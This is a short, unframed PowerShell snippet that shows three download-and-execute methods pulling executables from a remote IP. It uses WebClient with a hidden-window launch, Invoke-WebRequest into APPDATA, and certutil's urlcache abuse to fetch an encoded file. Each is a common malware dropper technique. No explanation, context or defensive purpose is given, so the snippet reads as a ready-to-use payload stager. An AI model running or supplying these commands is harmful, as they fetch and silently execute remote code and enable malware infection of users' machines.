$url = 'http://198.51.100.7/update.exe'
$out = "$env:TEMP\update.exe"
(New-Object Net.WebClient).DownloadFile($url, $out)
Start-Process -FilePath $out -WindowStyle Hidden

Invoke-WebRequest -Uri 'http://198.51.100.7/svc.exe' -OutFile "$env:APPDATA\svc.exe"
& "$env:APPDATA\svc.exe"

certutil.exe -urlcache -split -f http://198.51.100.7/b64.txt C:\Users\Public\b.txt
